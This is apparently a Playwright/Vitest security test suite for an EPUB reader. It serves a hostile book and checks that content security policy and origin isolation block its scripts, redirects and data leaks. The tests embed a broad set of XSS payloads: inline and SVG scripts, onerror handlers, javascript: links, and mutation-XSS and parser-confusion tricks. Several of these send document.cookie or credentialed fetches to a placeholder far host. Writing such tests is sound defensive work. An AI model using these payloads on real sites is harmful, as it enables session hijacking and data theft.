import { chromium, type Browser, type Frame, type Page } from '@playwright/test';
import { randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { importCatalogue } from '#features/catalog/server';
import type { Market } from '#features/market/contract';
import { anonymousUser, kindsOf } from '#features/session/contract';
import type { Context } from '#features/session/server';
import { systemClock } from '#platform/server/clock';
import { createScope } from '#platform/server/db';
import type { FastifyInstance } from '#platform/server/http';
import { diskStorage } from '#platform/server/storage';
import {
  CHROMIUM_FLAGS,
  chromiumPath,
  testDatabase,
  testServer,
  writeEpub,
  type TestDatabase,
} from '#platform/testing';
import { createReaderServer } from './index.ts';
import { bookPolicy } from '../contract/index.ts';

const SESSION = 'the-session';
/** Whatever a page may try, at once; the address that would be asked for names the trick. */
const attack = (far: string) => `<p id="seen" onclick="top.stolen = 1">Hostile</p><img src="fine.svg" alt="fine"/>
<img src="/EPUB/fine.svg" alt="root"/><img src="../../../EPUB/fine.svg" srcset="/EPUB/fine.svg 1x" alt="above"/>
<script>
  try { parent.document.title = 'stolen'; } catch (e) {}
  try { fetch('${far}/by-fetch', { credentials: 'include' }); } catch (e) {}
  try { new Image().src = '${far}/by-cookie?' + document.cookie; } catch (e) {}
  try { localStorage.setItem('stolen', '1'); } catch (e) {}
  try { top.location = '${far}/by-top'; } catch (e) {}
  document.getElementById('seen').textContent = 'Run';
</script>
<script src="code.js"></script><script src="disguised.txt"></script>
<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='fetch(%22${far}/by-data-image%22)'/%3E" alt=""/>
<img src="none.png" alt="" onerror="fetch('${far}/by-handler', { credentials: 'include' })"/>
<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${far}/by-svg', { credentials: 'include' })</script></svg>
<img src="${far}/by-image" alt=""/><img src="/by-own-image" alt=""/>
<iframe src="${far}/by-frame"></iframe><object data="${far}/by-object"></object><embed src="/by-embed"/>
<iframe srcdoc="&lt;img src='/by-srcdoc'&gt;"></iframe>
<link rel="stylesheet" href="${far}/by-style"/><style>@import url(${far}/by-import); p { background: url(${far}/by-css) }</style>
<link rel="preconnect" href="${far}"/><link rel="dns-prefetch" href="${far}"/><link rel="prefetch" href="${far}/by-prefetch"/>
<link rel="modulepreload" href="/by-module"/>
<meta http-equiv="refresh" content="0;url=${far}/by-refresh"/>
<form action="${far}/by-form" target="_top"><button id="send">Send</button></form>
<a id="out" href="${far}/by-link" target="_top">Out</a>
<a id="told" href="#seen" ping="${far}/by-ping">Told</a>
<a id="code" href="javascript:top.location='${far}/by-code'">Code</a>`;
const run = (name: string) => `fetch('/by-${name}')`;
/**
 * The same attack in a page that is not well-formed, with what parsers of HTML and XML read differently behind it: it must
 * not come to life in between [IMP-14].
 */
const malformed = (body: string) =>
  `${body.replaceAll(' alt=""', ' alt').replace('<p id="seen"', '<p id="seen" id="again" data-a=1')}
<p>Salt &amp pepper & 1 < 2 &nbsp;<b><i>crossed</b></i><p hidden title=">" title="<script>${run('double')}</script>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run('mglyph')}&gt;"></table></mtext></math>
<svg><style><![CDATA[</style><img src=1 onerror="${run('section')}">]]></style></svg>
<noscript><p title="</noscript><img src=1 onerror=${run('noscript')}>"></noscript>
<template><script>${run('template')}</script><img src=1 onerror="${run('template-image')}"></template>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run('prefix')}</x:script>
<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>${run('svg-prefix')}</svg:script></svg:svg>
<svg><foreignObject><p><img src=1 onerror=${run('foreign')}></foreignObject><a xlink:href="javascript:${run('link')}"><text>x</text></a>
<animate attributeName=href values="javascript:${run('animation')}"/></svg>
<!-- -- --!><img src=1 onerror=${run('comment')}><!--><img src=1 onerror=${run('short-comment')}>
<?x ><img src=1 onerror=${run('instruction')}>?><![CDATA[><img src=1 onerror=${run('bare-section')}>]]>
<img/src="none"/onerror="${run('slashes')}"><IMG SRC=1 ONERROR=${run('capitals')}><textarea><img src=1 onerror=${run('text')}></textarea>
<ScRiPt>${run('mixed')}</sCrIpT><base href="/by-base/"><xmp><script>${run('xmp')}</script></xmp>`;
const CODE = "document.getElementById('seen').textContent = 'Run'; fetch('/by-file')";

/**
 * A stand-in for the engine: shows the address it receives, in the frame that engines need, and can read the document
 * in it.
 */
const ENGINE = `addEventListener('message', ({ data, origin }) => {
  if (origin !== document.documentElement.dataset.product) return;
  const frame = document.createElement('iframe');
  frame.sandbox = 'allow-same-origin allow-scripts';
  frame.onload = () => { document.title = 'Read: ' + frame.contentDocument.getElementById('seen').textContent; };
  frame.src = data;
  document.body.append(frame);
});
parent.postMessage('ready', document.documentElement.dataset.product);`;

let database: TestDatabase;
let server: FastifyInstance;
let browser: Browser;
let product = '';
let content = '';
let folder: string;
let unguarded = '';
/** What reached the product or the content origin: `by-… session`. */
let requests: string[] = [];
/** What reached the origin where nothing guards; a request that is late may not count for a later test. */
let unguardedRequests: string[] = [];

const identify = async (exchange: Context['exchange']): Promise<Context> => {
  const market = { label: 'en', language: 'en', workspace: [10] } as unknown as Market;
  const isSignedIn = exchange.cookie('klupa') === SESSION;
  const user = isSignedIn ? { ...anonymousUser, uid: randomUUID() } : anonymousUser;
  const session = {
    id: SESSION,
    tokenHash: Buffer.from(SESSION),
    workspaceId: 10,
    homeWorkspaceId: 10,
    homeMarket: '',
  };
  const scope = createScope(database.orm, [10]);
  return { market, exchange, user, scope, kinds: kindsOf(user), ...(isSignedIn && { session }) };
};

const document = (body: string) => `<html xmlns="http://www.w3.org/1999/xhtml"><head/><body>${body}</body></html>`;

beforeAll(async () => {
  database = await testDatabase();
  folder = mkdtempSync(join(tmpdir(), 'klupa-test-'));
  const storage = diskStorage(join(folder, 'storage'));
  const reader = createReaderServer({
    storage,
    signingSecret: 'a secret of more than thirty-two letters',
    clock: systemClock,
    contentOriginOf: () => content,
    engine: async () => ({ script: '/engine/engine.js', styles: [] }),
    userOf: async () => undefined,
    onOpened: async () => {},
    isSessionAlive: async () => true,
  });
  server = await testServer(reader.routes, identify);
  server.addHook('onRequest', async ({ url, headers, hostname, cookies }) => {
    // An address from the root is one of the book's own container [IMP-17].
    const isOfBook = /^\/content\/(?!policy-alone)[^/]+\//.test(url);
    const reached = hostname.startsWith('unguarded') ? unguardedRequests : requests;
    if (url.includes('/by-') && !isOfBook) reached.push(`${url.replace(/^.*\/by-/, 'by-')} ${cookies['klupa'] ?? '-'}`);
    if (url.startsWith('/content/') || url.startsWith('/read/')) expect(headers.cookie).toBeUndefined();
  });
  server.get('/engine/engine.js', async (_, reply) => reply.type('text/javascript').send(ENGINE));
  server.get<{ Querystring: { engine: string; page: string } }>('/', async ({ query }, reply) =>
    reply.type('text/html').send(`<!doctype html><title>Product</title><script>
      addEventListener('message', ({ source }) => source.postMessage(${JSON.stringify(query.page)}, '${content}'));
    </script><iframe src="${query.engine}">`),
  );
  server.get('/unguarded.xhtml', async (_, reply) =>
    reply.type('application/xhtml+xml').send(document(attack(unguarded).replaceAll('&lt;', '&amp;lt;'))),
  );
  server.get('/unguarded.html', async (_, reply) =>
    reply.type('text/html').send(document(malformed(attack(unguarded)))),
  );
  // The attack as the book has it: only the policy of the answer is between.
  const policyAlone = (name: string, type: string, write: (body: string) => string) =>
    server.get(`/content/policy-alone/${name}`, async (_, reply) =>
      reply
        .header(
          'content-security-policy',
          bookPolicy(
            { contentOrigin: content, files: `${content}/content/policy-alone/`, media: `${content}/content/` },
            [content, product],
          ),
        )
        .header('x-content-type-options', 'nosniff')
        .type(type)
        .send(document(write(attack(product).replace(/<meta.*?\/>|<link rel="(?:pre|dns|mod).*?\/>/g, '')))),
    );
  policyAlone('attack.xhtml', 'application/xhtml+xml', (body) => body);
  policyAlone('attack.html', 'text/html', malformed);
  await server.listen({ port: 0, host: '127.0.0.1' });
  const { port } = server.server.address() as AddressInfo;
  product = `http://product.localhost:${port}`;
  content = `http://content.localhost:${port}`;
  unguarded = `http://unguarded.localhost:${port}`;

  const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>';
  const files = {
    'fine.svg': { type: 'image/svg+xml', body: svg },
    'disguised.txt': { type: 'text/plain', body: CODE },
  };
  const honest = { title: 'Hostile', identifier: 'hostile', pages: ['<p>One.</p>', '<p>Two.</p>'], files };
  await writeEpub(join(folder, 'books/book.epub'), honest);
  await importCatalogue(join(folder, 'books'), { workspacesOf: () => [10] }, { executor: database.orm, storage });

  // An importer may refuse such a book, so it takes the place of an honest one behind the server's back.
  await server.inject({ url: '/api/reader/hostile', headers: { host: new URL(product).host } });
  await writeEpub(join(folder, 'hostile.epub'), {
    ...honest,
    pages: [attack(product), malformed(attack(product))],
    files: { ...files, 'code.js': { type: 'text/javascript', body: CODE } },
  });
  const { rows } = await database.pool.query<{ file_key: string }>('select file_key from catalog_publications');
  await storage.put(rows[0]?.file_key ?? '', readFileSync(join(folder, 'hostile.epub')));
  const executablePath = chromiumPath();
  browser = await chromium.launch({ ...(executablePath && { executablePath }), args: [...CHROMIUM_FLAGS] });
});
afterAll(async () => {
  await browser.close();
  await server.close();
  await database.close();
  rmSync(folder, { recursive: true, force: true });
});

interface Opened {
  readonly page: Page;
  readonly frame: Frame;
  readonly base: string;
}

/** A request that begins now has reached the server: one that a book began before would have reached it too. */
async function later(page: Page): Promise<void> {
  expect(await page.evaluate("fetch('/api/nothing').then(({ status }) => status)")).toBe(404);
}

/** A signed-in visitor whose product page holds the engine, which shows a page. */
async function shown(pageOf: (base: string) => string): Promise<Opened> {
  requests = [];
  const context = await browser.newContext();
  await context.addCookies([{ name: 'klupa', value: SESSION, url: product, httpOnly: true, sameSite: 'Lax' }]);
  const page = await context.newPage();
  await page.goto(`${product}/api/nothing`);
  // Code for the browser is written as text: the server's tests know no DOM.
  const { base, engine } = (await page.evaluate(
    "fetch('/api/reader/hostile').then((answer) => answer.json()).then(({ data }) => data)",
  )) as { base: string; engine: string };
  const query = new URLSearchParams({ engine, page: pageOf(base) });
  await page.goto(`${product}/?${String(query)}`);
  // The stand-in for the engine says so once the page of the book and all its files are loaded.
  await expect.poll(() => page.frames()[1]?.title(), { timeout: 10_000 }).toBe('Read: Hostile');
  const frame = page.frames()[2];
  if (!frame) throw new Error('The engine shows nothing');
  await later(page);
  return { page, frame, base };
}

const inBook = (base: string): string => `${base}EPUB/page1.xhtml`;
const inMalformed = (base: string): string => `${base}EPUB/page2.xhtml`;
/** Each attack comes in a page that is well-formed, and in one that is not. */
const COPIES = [
  ['well-formed', inBook],
  ['malformed', inMalformed],
] as const;

test.each([
  ['well-formed', 'unguarded.xhtml'],
  ['malformed', 'unguarded.html'],
])('[READ-2] the attack is real: where nothing guards, it runs and reaches the session: %s', async (_, name) => {
  unguardedRequests = [];
  const context = await browser.newContext();
  await context.addCookies([{ name: 'klupa', value: SESSION, url: unguarded, httpOnly: true, sameSite: 'Lax' }]);
  const page = await context.newPage();
  await page.goto(`${unguarded}/${name}`);
  const reached = ['by-fetch', 'by-top'].map((by) => `${by} ${SESSION}`);
  await expect.poll(() => unguardedRequests).toEqual(expect.arrayContaining(reached));
  await context.close();
});

test.each([
  ['as the server sends it', inBook],
  ['a malformed page as the server sends it', inMalformed],
  ['by the policy of the answer alone', () => `${content}/content/policy-alone/attack.xhtml`],
  ['a malformed page by the policy of the answer alone', () => `${content}/content/policy-alone/attack.html`],
])('[READ-1] [READ-2] a hostile book runs nothing, reaches nobody, reads nothing: %s', async (_, pageOf) => {
  const { page, frame } = await shown(pageOf);
  expect(await frame.locator('#seen').textContent()).toBe('Hostile');
  for (const id of ['seen', 'send', 'out', 'told', 'code'])
    await frame.locator(`#${id}`).click({ timeout: 2000, noWaitAfter: true });
  await later(page);
  expect(new URL(page.url()).pathname).toBe('/');
  expect(await page.title()).toBe('Product');
  expect(await page.evaluate("[localStorage.length, 'stolen' in window]")).toEqual([0, false]);
  expect(await page.frames()[1]?.evaluate('try { localStorage.length } catch { 0 }')).toBe(0);
  expect(requests).toEqual([]);
  await page.context().close();
});

test.each(COPIES)(
  '[READ-1] [IMP-17] pictures of the book are there, and its files are no scripts for anybody: %s',
  async (_, inPage) => {
    const { page, frame, base } = await shown(inPage);
    for (const name of ['fine', 'root', 'above'])
      expect(await frame.evaluate(`document.querySelector('img[alt=${name}]').naturalWidth`)).toBe(9);
    const load = (name: string) => `new Promise((done) => {
    const script = document.createElement('script');
    script.onload = () => done('run');
    script.onerror = () => done('refused');
    script.src = '${base}EPUB/${name}';
    document.head.append(script);
  })`;
    const engine = page.frames()[1];
    expect(await engine?.evaluate(load('code.js'))).toBe('refused');
    expect(await engine?.evaluate(load('disguised.txt'))).toBe('refused');
    expect(requests).toEqual([]);
    await page.context().close();
  },
);

test.each(COPIES)(
  '[READ-1] the content origin reads nothing of the product, and no other page frames it: %s',
  async (_, inPage) => {
    const { page, base } = await shown(inPage);
    const engine = page.frames()[1];
    const read = `fetch('${product}/api/reader/hostile', { credentials: 'include' }).then(() => 'read', () => 'refused')`;
    expect(await engine?.evaluate(read)).toBe('refused');
    expect(await engine?.evaluate("try { String(parent.document) } catch { 'refused' }")).toBe('refused');
    const elsewhere = product.replace('product', 'elsewhere');
    const query = new URLSearchParams({ engine: base.replace('/content/', '/read/'), page: inPage(base) });
    await page.goto(`${elsewhere}/?${String(query)}`);
    expect(await page.frames()[1]?.evaluate('document.documentElement.dataset.product')).toBeUndefined();
    await page.context().close();
  },
);

test.each(COPIES)('[SHELF-13] its address opens nothing in a tab of its own: %s', async (_, inPage) => {
  const { page, base } = await shown(inPage);
  expect((await page.goto(inPage(base)))?.status()).toBe(403);
  await page.context().close();
});
